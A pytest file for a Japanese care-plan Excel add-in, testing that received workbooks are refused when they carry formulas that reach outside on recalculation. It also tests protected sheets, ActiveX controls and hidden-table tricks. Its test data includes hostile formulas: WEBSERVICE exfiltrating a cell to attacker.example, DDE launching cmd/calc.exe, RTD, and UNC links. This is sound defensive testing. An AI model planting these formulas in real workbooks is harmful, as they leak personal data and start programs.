"""A received workbook must not steer 「点検する」, third review (the first two: tests/test_addin_adversarial.py and
tests/test_addin_received.py; the real-Calc cases are in tests/test_libreoffice_live.py).

Each test is one class of attack by a sender, or one way the live path could stop half-way: formulas that reach
outside the workbook when our writes make Excel recalculate, a sheet we cannot write to, a 点検結果 sheet of the
user's found only after the schedule was written. What we cannot do safely is refused before anything changes.
"""

from __future__ import annotations

import datetime as dt

import pytest

from fake_xlwings import Book, Formula
from test_addin_live import samples  # noqa: F401 - the session fixture
from xl_careplan.addin.live import LiveWorkbook, run_on_caller
from xl_careplan.addin.outside import reaches_outside

TODAY = dt.date(2026, 11, 25)
PLAN = "07_period_and_dates.xlsx"  # its click writes the schedule, notes, fills and two sheets


def _refused(book, *words, platform="win32"):
    before = book.snapshot()
    result = run_on_caller(book, today=TODAY, platform=platform)
    prompt = book.app.alerts[-1]["prompt"]
    assert not result.ok, prompt
    for w in words:
        assert w in prompt, prompt
    assert book.snapshot() == before  # nothing written
    return prompt


# --- formulas that reach outside on recalculation ------------------------------------------------------------


OUTSIDE = {
    "webservice": '=WEBSERVICE("https://attacker.example/?n="&ENCODEURL(第1表!B4))',
    "dde": "=cmd|'/c calc.exe'!A0",
    "rtd": '=RTD("evil.server",,"x")',
    "unc_link": "='\\\\attacker.example\\share\\[master.xlsx]Sheet1'!$A$1",
    "web_link": "='https://attacker.example/x/[master.xlsx]Sheet1'!$A$1",
    "hidden_in_quotes": "='a\"b'!A1&WEBSERVICE(\"https://x.example/\")&'c\"d'!A1",
}


@pytest.mark.parametrize("kind", sorted(OUTSIDE))
@pytest.mark.parametrize("where", ["plan sheet", "very hidden sheet"])
def test_a_formula_that_reaches_outside_is_refused_before_anything_is_written(samples, kind, where):
    """Our first write makes Excel recalculate: WEBSERVICE would send the user's name, DDE / RTD start a program, a
    link into \\\\server contacts it with the user's credentials. The message names the cell and the file path."""
    book = Book.from_xlsx(samples / PLAN)
    sheet = book.sheets[1]
    if where == "very hidden sheet":
        sheet = book.sheets.add("calc", after=book.sheets[-1])
        sheet.api.Visible = 2
    sheet._values[(60, 30)] = Formula(OUTSIDE[kind])
    prompt = _refused(book, "何も書き込まず", "AD60", sheet.name, "xl-careplan check --annotate")
    assert reaches_outside(OUTSIDE[kind]) in prompt


def test_a_defined_name_holding_such_a_formula_is_refused_too(samples):
    book = Book.from_xlsx(samples / PLAN)
    book.add_name("送信", '=WEBSERVICE("https://attacker.example/?"&第1表!$B$4)')
    _refused(book, "名前「送信」", "WEBSERVICE")


@pytest.mark.parametrize("formula", ['="WEBSERVICE(説明のための文字)"', "='C:\\様式\\[事業所一覧.xlsx]一覧'!$B$2",
                                     '=A1&" | "&B1', "='利用者|家族'!A1", '=HYPERLINK("https://example.jp/","手引き")'])
def test_formulas_that_stay_inside_are_written_as_usual(samples, formula):
    """A string that mentions a function, a local workbook's cached link, a '|' in a string or a sheet name, a
    link the user may click: nothing is fetched or started by recalculation."""
    book = Book.from_xlsx(samples / PLAN)
    book.sheets[1]._values[(60, 30)] = Formula(formula)
    result = run_on_caller(book, today=TODAY, platform="win32")
    assert result.ok, book.app.alerts[-1]["prompt"]


@pytest.mark.parametrize("formula, found", [
    ("=_xlfn.WEBSERVICE(A1)", "WEBSERVICE"), ("=image(A1)", "IMAGE"), ('=DDE("soffice";"x";"y")', "DDE"),
    ("='file://attacker.example/x/b.ods'#$Sheet1.A1", "ネットワーク"), ("='file:///home/u/b.ods'#$Sheet1.A1", None),
    ("='a\"b'!A1&cmd|'x'!A0&'c\"d'!A1", "DDE"), ("=MYIMAGE(A1)", None), ("=SUM(A1:A3)", None), ("WEBSERVICE(", None),
    ('=INDIRECT("\'\\\\attacker.example\\s\\[x.xlsx]S\'!A1")', "ネットワーク"), ('=INDIRECT("B"&ROW())', None),
])
def test_what_reaches_outside_is_read_from_code_not_from_text(formula, found):
    what = reaches_outside(formula)
    assert (what is None) if found is None else (found in what), what


# --- what would stop us half-way ------------------------------------------------------------------------------


def test_a_results_sheet_of_the_users_is_refused_before_the_schedule_is_written(samples):
    """The annotator refuses to replace a 点検結果 sheet it did not make — but the schedule came first and was
    already written into the user's モニタリング sheet."""
    book = Book.from_xlsx(samples / PLAN)
    mine = book.sheets.add("点検結果", after=book.sheets[-1])
    mine["A1"].value = [["事業所内の点検結果（手書き）"], ["11/20 ○○さん確認済み"]]
    _refused(book, "点検結果", "上書きしませんでした")


def test_a_protected_sheet_is_refused_before_anything_is_written(samples):
    """Excel refuses notes and colours on a protected sheet: the button would stop half-way with an unexpected
    error, the schedule and some notes written."""
    book = Book.from_xlsx(samples / PLAN)
    book.sheets["第1表"]._protected = True
    _refused(book, "保護", "第1表")


def test_a_protected_structure_is_refused_before_anything_is_written(samples):
    book = Book.from_xlsx(samples / PLAN)
    book.protect_structure = True
    _refused(book, "ブックの構成が保護")


def test_a_protected_sheet_we_do_not_write_to_is_no_reason_to_stop(samples):
    book = Book.from_xlsx(samples / PLAN)
    book.sheets.add("記入の手引き", after=book.sheets[-1])._protected = True
    result = run_on_caller(book, today=TODAY, platform="win32")
    assert result.ok, book.app.alerts[-1]["prompt"]


def test_formulas_are_read_in_one_call_a_sheet(samples):
    book = Book.from_xlsx(samples / PLAN)
    lw = LiveWorkbook(book, platform="win32")
    book.calls = 0
    assert list(lw._formulas()) == []
    assert book.calls <= 6 * len(book._sheets)


# --- a defined name that moves the 方針と異なる理由 table where nobody looks ----------------------------------------------


def _ack_moved(samples, tmp_path, how: str):
    """10_acknowledged_deviation with its reasons moved to row 3000 of 第3表 or of a sheet of its own named 参考 (the
    reasons sheet gone); cp_ack_table points at them."""
    import openpyxl
    from openpyxl.workbook.defined_name import DefinedName

    wb = openpyxl.load_workbook(samples / "10_acknowledged_deviation.xlsx")
    ack = wb["方針と異なる理由"]
    header = [c.value for c in ack[3]]
    reason = [c.value for c in ack[4]]
    del wb["方針と異なる理由"]
    if how == "plan sheet":
        target, ref = wb["第3表"], "'第3表'!$A$3000"
    else:
        target, ref = wb.create_sheet("参考"), "'参考'!$A$3000"
    for col, (h, v) in enumerate(zip(header, reason), start=1):
        target.cell(3000, col, h)
        target.cell(3001, col, v)
    del wb.defined_names["cp_ack_table"]
    wb.defined_names["cp_ack_table"] = DefinedName("cp_ack_table", attr_text=ref)
    path = tmp_path / f"moved_{how.replace(' ', '_')}.xlsx"
    wb.save(path)
    return path


@pytest.mark.parametrize("how", ["plan sheet", "sheet of its own"])
def test_a_defined_name_cannot_move_the_reasons_where_nobody_looks(samples, tmp_path, how):
    """cp_ack_table is our template's anchor: a received workbook's name pointing at row 3000 of a plan sheet (or of
    a sheet with another name) silenced findings there, on the file path and on the button alike. A name counts only
    on a sheet named for its part (readers.tables.find_simple)."""
    from xl_careplan.pipeline import check_file
    from xl_careplan.profiles import load_profile

    path = _ack_moved(samples, tmp_path, how)
    res = check_file(str(path), load_profile("asahikawa"), TODAY)
    assert res.error is None and not [f for f in res.findings if f.acknowledged]
    assert any(f.rule == "AS201" for f in res.findings)
    book = Book.from_xlsx(path)
    conf = book.sheets.add("xl_careplan.conf", after=book.sheets[-1])
    conf["A1"].value = [["PROFILE", "asahikawa"]]
    result = run_on_caller(book, today=TODAY, platform="win32")
    assert result.ok and result.acknowledged == 0


def test_the_name_on_the_reasons_sheet_itself_still_finds_the_table(samples):
    from xl_careplan.pipeline import check_file
    from xl_careplan.profiles import load_profile

    res = check_file(str(samples / "10_acknowledged_deviation.xlsx"), load_profile("asahikawa"), TODAY)
    assert [f.rule for f in res.findings if f.acknowledged] == ["AS201"]


# --- a sheet that would keep Excel answering for minutes ----------------------------------------------------------


@pytest.mark.parametrize("what", ["every other row hidden", "every other column hidden", "hundreds of tiny merges",
                                  "a crowd of text boxes"])
def test_a_sheet_that_would_take_minutes_to_read_is_refused_quickly(samples, monkeypatch, what):
    """Hidden lines and merged areas are found by asking Excel about blocks: a few hundred questions for a form
    (tests/test_addin_live.py holds the samples to a call budget), but every other one of 30,000 rows hidden asks
    60,000 (minutes over COM) where the file path reads them at once. Past shown.MAX_QUESTIONS (here 300, so that
    the stand-in is quick) the sheet is refused."""
    from xl_careplan.addin import shown

    monkeypatch.setattr(shown, "MAX_QUESTIONS", 300)
    book = Book.from_xlsx(samples / PLAN)
    sheet = book.sheets.add("メモ", after=book.sheets[-1])
    if what == "every other row hidden":
        sheet._values[(1, 1)], sheet._values[(601, 1)] = "x", "y"
        sheet._hidden_rows.update(range(2, 601, 2))
    elif what == "every other column hidden":
        sheet._values[(1, 1)], sheet._values[(1, 601)] = "x", "y"
        sheet._hidden_cols.update(range(2, 601, 2))
    elif what == "hundreds of tiny merges":
        sheet._values[(1, 1)], sheet._values[(40, 20)] = "x", "y"
        sheet._merges += [(r, c, r, c + 1) for r in range(1, 41) for c in range(1, 20, 2)]
    else:
        from fake_xlwings import Shape

        sheet._values[(1, 1)] = "x"
        sheet._shapes += [Shape(sheet, "text_box", 10.0 * i, 5.0, 8.0, 8.0, "・", 1) for i in range(60)]
    _refused(book, "時間がかかりすぎる", "メモ", "xl-careplan check --annotate")


def test_the_samples_ask_far_fewer_questions_than_the_limit(samples, monkeypatch):
    from xl_careplan.addin import shown

    monkeypatch.setattr(shown, "MAX_QUESTIONS", shown.MAX_QUESTIONS // 20)
    for path in sorted(samples.glob("*.xlsx")):
        LiveWorkbook(Book.from_xlsx(path), platform="win32").grid()


# --- code that runs although events are off -------------------------------------------------------------------------


class _Control:
    def __init__(self, linked: str):
        self.LinkedCell = linked


@pytest.mark.parametrize("sheet", ["モニタリング", "点検結果"])
def test_an_activex_control_linked_to_a_sheet_we_write_to_is_refused(samples, sheet):
    """An ActiveX checkbox linked to a cell runs its CheckBox1_Change VBA when the cell changes, whatever
    Application.EnableEvents says: on the monitoring sheet (the schedule is written there) or on a 点検結果 sheet of
    ours from an earlier click (clearing it keeps the controls)."""
    book = Book.from_xlsx(samples / PLAN)
    if sheet == "点検結果":
        run_on_caller(book, today=TODAY, platform="win32")
    book.sheets[sheet]._controls.append(_Control("$B$9"))
    _refused(book, "コントロール", "B9", sheet)


def test_a_control_without_a_linked_cell_or_where_we_write_no_value_is_no_reason_to_stop(samples):
    """第1表 gets notes and colours only (no Change event): its checkbox for 初回・紹介・継続 stays as it is."""
    book = Book.from_xlsx(samples / PLAN)
    book.sheets["モニタリング"]._controls.append(_Control(""))
    book.sheets["第1表"]._controls.append(_Control("$A$1"))
    book.sheets.add("記入の手引き", after=book.sheets[-1])._controls.append(_Control("$A$1"))
    assert run_on_caller(book, today=TODAY, platform="win32").ok


# --- where we write, said in the open -------------------------------------------------------------------------------


def test_the_message_names_the_rows_the_schedule_was_written_into(samples):
    """A received モニタリング sheet with a stray 種別 far down (row 60000) has the schedule written below it, where the
    care manager never scrolls: the message names the rows."""
    book = Book.from_xlsx(samples / PLAN)
    sheet = book.sheets["モニタリング"]
    kind_col = next(c for (r, c), v in sheet._values.items() if v == "種別")
    sheet._values[(60_000, kind_col)] = "訪問"
    result = run_on_caller(book, today=TODAY, platform="win32")
    assert result.ok and result.schedule_written
    assert f"シート「モニタリング」の 60001〜{60_000 + result.schedule_written} 行目に書き込みました" in book.app.alerts[-1]["prompt"]
